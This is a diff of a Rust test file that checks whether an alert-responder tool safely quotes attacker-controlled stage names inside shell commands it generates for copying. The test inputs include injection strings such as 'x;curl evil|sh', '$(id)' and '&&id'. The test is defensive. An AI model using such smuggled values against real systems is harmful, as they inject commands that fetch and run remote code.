@@ -12,7 +12,7 @@ use vpclink_responder::alerts::Message;
 use vpclink_responder::incidents::Alert;
 
 use crate::alerts::bodies::{account, document};
-use crate::alerts::golden::explained;
+use crate::alerts::golden::{explained, unread};
 
 /// An alert in whose path, endpoint, failure text and stage this stands.
 fn planted(text: &str) -> Alert {
@@ -148,12 +148,30 @@ fn commands(alert: &Alert) -> Vec<String> {
     both.filter_map(Value::as_str).map(str::to_owned).collect()
 }
 
+/// The words of the commands of an alert whose log group says this for its stage.
+fn words_of_stage(stage: &str) -> Vec<Vec<String>> {
+    let lines = [
+        "(a) HTTP Method: GET, Resource Path: /orders".to_owned(),
+        "(a) Execution failed due to configuration error: There was an internal error while executing your request"
+            .to_owned(),
+        "(a) Method completed with status: 500".to_owned(),
+    ];
+    let document = String::from_utf8(document(&lines)).unwrap();
+    let alert = unread(document.replace("/prod", &format!("/{stage}")).into_bytes()).alerts.remove(0);
+    commands(&alert).iter().map(|command| shlex::split(command).unwrap()).collect()
+}
+
 #[test]
 fn shell_metacharacters_in_a_command_to_copy() {
-    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y"] {
-        for command in commands(&planted(text)) {
-            assert!(!command.contains(text), "{command}");
-        }
+    let harmless = words_of_stage("word");
+    assert!(harmless.iter().flatten().any(|word| word.contains("word")), "{harmless:#?}");
+    for text in ["x;curl evil|sh", "$(id)", "`id`", "'; id; '", "x&&id", "x>y", "a b", "x'y"] {
+        // The same words, with this one in its place.
+        let expected: Vec<Vec<String>> = harmless
+            .iter()
+            .map(|words| words.iter().map(|word| word.replace("word", text)).collect())
+            .collect();
+        assert_eq!(words_of_stage(text), expected, "{text}");
     }
 }
 
